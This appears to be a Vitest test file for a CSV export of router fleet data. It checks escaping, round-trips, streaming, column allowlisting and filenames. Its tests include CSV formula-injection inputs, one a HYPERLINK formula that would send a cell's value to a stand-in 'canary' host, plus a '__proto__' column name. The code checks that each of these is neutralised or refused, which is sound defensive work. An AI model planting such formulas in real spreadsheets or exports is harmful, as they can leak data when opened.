import { describe, expect, it } from 'vitest';
import type { FleetRouterRow } from '@/lib/dto/fleet';
import { csvFilename, csvLine, csvRowsStream, csvStream, csvTextCell, FLEET_CSV_COLUMNS, parseCsvColumns } from './csv';

/** A strict RFC 4180 reader: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        field += ch;
        i++;
      }
    } else if (ch === '"' && field === '') {
      quoted = true;
      i++;
    } else if (ch === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      expect(ch, 'bare CR/LF or quote outside a quoted field').not.toMatch(/[\r\n"]/);
      field += ch;
      i++;
    }
  }
  expect(field).toBe('');
  expect(record).toEqual([]);
  return records;
}

function row(over: Partial<FleetRouterRow>): FleetRouterRow {
  return {
    id: '1',
    name: 'r',
    state: 'online',
    stateUpdatedAt: null,
    productName: null,
    firmwareVersion: null,
    firmwareBehind: false,
    groupId: null,
    groupName: null,
    accountId: null,
    accountName: null,
    serialNumber: null,
    mac: null,
    ipv4Address: null,
    assetId: null,
    carrier: null,
    rsrp: null,
    rsrq: null,
    sinr: null,
    signalQuality: null,
    healthScore: null,
    latitude: null,
    longitude: null,
    ...over,
  };
}

async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  // Keep the BOM: Response.text() would strip it.
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
}

describe('CSV cells', () => {
  it('neutralises every formula prefix in text cells', () => {
    expect(csvTextCell('=HYPERLINK("http://canary/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://canary/?""&A1,""x"")"`);
    expect(csvTextCell('+1+1')).toBe("'+1+1");
    expect(csvTextCell('-2+3')).toBe("'-2+3");
    expect(csvTextCell('@SUM(1)')).toBe("'@SUM(1)");
    expect(csvTextCell('\t=1')).toBe("'\t=1");
    expect(csvTextCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvTextCell('plain')).toBe('plain');
  });

  it('writes numeric columns as plain numbers, negative included', () => {
    expect(csvLine(row({ rsrp: -95, sinr: -2.5, healthScore: 80 }), ['rsrp', 'sinr', 'healthScore'])).toBe(
      '-95,-2.5,80\r\n',
    );
  });

  it('round-trips commas, quotes, CR/LF and formula prefixes through an RFC 4180 parser', async () => {
    const names = [
      'a,b',
      'say "hi"',
      'line1\r\nline2',
      'lf\nonly',
      '=1+1',
      '+x',
      '-y',
      '@z',
      '\tt',
      '\rr',
      'Ünïcode ✓',
    ];
    const rows = names.map((name, i) => row({ id: String(i), name, rsrp: -90 - i }));
    const text = await readAll(csvStream(rows, ['id', 'name', 'rsrp']));
    expect(text.startsWith('\uFEFF')).toBe(true);
    const records = parseCsv(text.slice(1));
    expect(records[0]).toEqual(['Router ID', 'Name', 'RSRP (dBm)']);
    expect(records.slice(1).map((r) => r[1])).toEqual(names.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)));
    expect(records.slice(1).map((r) => Number(r[2]))).toEqual(rows.map((r) => r.rsrp));
  });

  it('streams 50,000 rows in chunks', async () => {
    const rows = Array.from({ length: 50_000 }, (_, i) => row({ id: String(i), name: `Router ${i}` }));
    const reader = csvStream(rows, FLEET_CSV_COLUMNS).getReader();
    let chunks = 0;
    let lines = 0;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks++;
      lines += new TextDecoder().decode(value).split('\r\n').length - 1;
    }
    expect(lines).toBe(50_001);
    expect(chunks).toBeGreaterThan(40);
  });
});

describe('any table through the same rules', () => {
  it('neutralises text, keeps numbers plain, round-trips through an RFC 4180 parser, with BOM and header', async () => {
    const rows: Array<Array<string | number | null>> = [
      ['2026-11-20T10:00:00.000Z', '=HYPERLINK("http://x","y")', -95.5, null],
      ['2026-11-20T10:05:00.000Z', 'mdm, "two"\r\nlines', -101, '@SUM(A1)'],
    ];
    const text = await readAll(
      csvRowsStream(['Time (UTC)', 'Modem', 'RSRP (dBm)', 'Carrier'], rows.length, (i) => rows[i]!),
    );
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(parseCsv(text.slice(1))).toEqual([
      ['Time (UTC)', 'Modem', 'RSRP (dBm)', 'Carrier'],
      ['2026-11-20T10:00:00.000Z', `'=HYPERLINK("http://x","y")`, '-95.5', ''],
      ['2026-11-20T10:05:00.000Z', 'mdm, "two"\r\nlines', '-101', "'@SUM(A1)"],
    ]);
  });
});

describe('CSV columns and filename', () => {
  it('accepts allowlisted columns in order and refuses others', () => {
    expect(parseCsvColumns('name,rsrp,name')).toEqual(['name', 'rsrp']);
    expect(parseCsvColumns(null)).toEqual([...FLEET_CSV_COLUMNS]);
    expect(parseCsvColumns('name,__proto__')).toEqual({ error: 'Unknown column: __proto__' });
  });

  it('names the file routers-YYYYMMDD-HHMM.csv in UTC', () => {
    expect(csvFilename('routers', new Date('2026-03-04T05:06:07Z'))).toBe('routers-20260304-0506.csv');
    expect(csvFilename('router-42-signal', new Date('2026-03-04T05:06:07Z'))).toBe(
      'router-42-signal-20260304-0506.csv',
    );
  });
});
